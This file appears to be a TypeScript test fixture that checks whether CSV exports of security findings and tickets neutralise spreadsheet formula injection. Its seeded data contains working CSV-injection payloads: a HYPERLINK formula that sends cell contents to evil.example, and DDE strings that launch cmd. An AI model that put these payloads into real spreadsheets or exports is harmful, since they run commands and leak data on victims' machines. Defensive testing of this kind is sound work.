// Findings whose upstream text a spreadsheet would run as a formula, and text that only looks like a
// number, for the CSV tests of every writer (query, export, the API): what each cell must become.
import type { AppContext } from '../../src/app/context.ts';
import { readCsv } from '../../src/filedrop/csv/reader.ts';
import { storeRun } from './seed.ts';

/** Plugin names as upstream sent them → the cell a spreadsheet gets by default. */
export const HOSTILE_NAMES: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['@SUM(1+1)*cmd|/C calc', "'@SUM(1+1)*cmd|/C calc"],
  ['-2+3', "'-2+3"],
  ['\tX', "'\tX"],
  ['\r=1+1', "'\r=1+1"],
  // Plain numbers stay numbers.
  ['-1', '-1'],
  ['+3.5', '+3.5'],
  ['1e5', '1e5'],
  ['.5', '.5'],
  ['OpenSSL < 3.0.7', 'OpenSSL < 3.0.7'],
];

/** A ticket status (it reaches the change feed's `to`) and subject as upstream sent them. */
export const HOSTILE_TICKET = { status: '@SUM(1+1)', subject: '=HYPERLINK("http://evil.example","Open me")' };

/**
 * A source `hostile` with one host and a finding per HOSTILE_NAMES entry (pluginId 1 upwards), and a
 * service-desk source `hostile-desk` with one HOSTILE_TICKET.
 */
export async function seedHostile(app: AppContext): Promise<void> {
  await app.store.sources.create('hostile-desk', 'servicedesk-plus', {}, null);
  await storeRun(app, 'hostile-desk', { tickets: [{ key: '1', fields: HOSTILE_TICKET }] });
  await app.store.sources.create('hostile', 'tenable-sc', { inputMode: 'api', apiUrl: 'https://sc.example', accessKey: 'a', secretKey: 'b' }, null);
  await storeRun(app, 'hostile', {
    hosts: [{ key: 'h0', fields: { hostname: 'h0', ipAddresses: ['10.9.0.1'] } }],
    vulnerabilities: HOSTILE_NAMES.map(([name], i) => ({
      key: `h0|${i + 1}`,
      hostKey: 'h0',
      fields: { pluginId: String(i + 1), pluginName: name, severity: 'high', status: 'open', port: -1 },
    })),
  });
}

/** The rows of a CSV text (header first), parsed as RFC 4180. */
export async function csvRows(text: string): Promise<string[][]> {
  const rows: string[][] = [];
  const input = (async function* () {
    yield text;
  })();
  for await (const batch of readCsv(input, { delimiter: ',' })) for (const r of batch) rows.push(r.fields);
  return rows;
}

/** pluginName cells by pluginId, and every port cell, from a CSV of findings. */
export async function hostileCells(text: string): Promise<{ names: Map<string, string>; ports: string[] }> {
  const [header, ...rows] = await csvRows(text);
  const id = header!.indexOf('pluginId');
  const name = header!.indexOf('pluginName');
  const port = header!.indexOf('port');
  return { names: new Map(rows.map((r) => [r[id]!, r[name]!])), ports: rows.map((r) => r[port]!) };
}

/** The cells expected by pluginId: neutralised (the default) or as upstream sent them (raw). */
export function expectedNames(raw: boolean): Map<string, string> {
  return new Map(HOSTILE_NAMES.map(([upstream, neutralised], i) => [String(i + 1), raw ? upstream : neutralised]));
}
